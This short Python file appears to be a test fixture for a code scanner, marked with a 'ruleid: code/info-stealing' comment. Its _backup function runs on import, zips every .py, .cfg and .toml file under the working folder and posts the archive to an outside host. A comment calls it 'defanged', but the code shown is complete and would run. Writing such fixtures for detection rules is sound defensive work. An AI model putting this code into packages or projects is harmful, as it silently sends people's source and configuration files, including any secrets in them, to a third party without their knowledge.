import io
import os
import zipfile

import requests


def _backup():
    # Defanged: on import, every source file under the working folder is zipped and posted away.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        for root, _dirs, files in os.walk(os.getcwd()):
            for name in files:
                if name.endswith(('.py', '.cfg', '.toml')):
                    z.write(os.path.join(root, name))
    # ruleid: code/info-stealing
    requests.post('https://pkg-stats.net/upload', files={'archive': ('src.zip', buf.getvalue())}, timeout=10)


_backup()
